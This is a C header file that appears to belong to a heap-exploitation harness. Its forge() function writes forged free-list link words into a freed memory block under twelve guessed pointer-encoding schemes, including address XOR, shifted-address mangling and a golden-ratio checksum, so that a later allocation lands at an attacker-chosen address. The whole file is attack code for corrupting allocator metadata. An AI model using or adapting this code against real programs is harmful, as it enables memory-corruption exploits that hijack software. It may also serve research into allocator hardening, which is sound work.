/*
 * The attacker has read one free block, whole, and may compute from it what another must hold to
 * lead to an address of his. These are the guesses: each follows from one way to encode a link.
 */
#ifndef LEAK_H
#define LEAK_H

#include "attack.h"

/* A link's 24-bit check by the public constant that is used for such. */
static word golden(word link)
{
    return link * 0x9e3779b97f4a7c15u >> 40 << 40;
}

#define GUESSES 12

/* The block at `read` held was[0], was[1] while it led to next; fills the one at `at`, of words
 * words. */
static void forge(unsigned guess, word *at, unsigned words, const word *read, const word was[2],
                  word next, word to)
{
    word from = (word)read, here = (word)at, made[2] = {to, was[1]};

    switch (guess) {
    case 0: made[0] = was[0] ^ next ^ to; break;
    case 1: made[0] = was[0] ^ next ^ to ^ from ^ here; break;
    case 2: made[0] = was[0] ^ from >> 12 ^ here >> 12 ^ next ^ to; break;
    case 3: made[0] = was[0] ^ next >> 3 ^ to >> 3; break;
    case 4: made[0] = was[0] ^ next >> 3 ^ to >> 3 ^ from << 8 ^ here << 8; break;
    case 5: made[1] = was[1] ^ from << 8 ^ here << 8; break;
    case 6: made[1] = was[1] ^ from << 8 ^ here << 8 ^ golden(next) ^ golden(to); break;
    case 7: made[1] = ~was[1] << 24 >> 24 ^ (was[1] >> 40 << 40) ^ golden(next) ^ golden(to); break;
    case 8: made[1] = was[1] + (here << 8) - (from << 8); break;
    case 9: made[1] = was[1] ^ from ^ here; break;
    case 10:
        made[1] = was[1] ^ from << 8 ^ here << 8 ^ golden(next) ^ golden(to) ^ ~(word)0 << 40;
        break;
    case 11: made[1] = was[1] ^ golden(next) ^ golden(to); break;
    }
    at[0] = made[0];
    if (words > 1)
        at[1] = made[1];
}

#endif
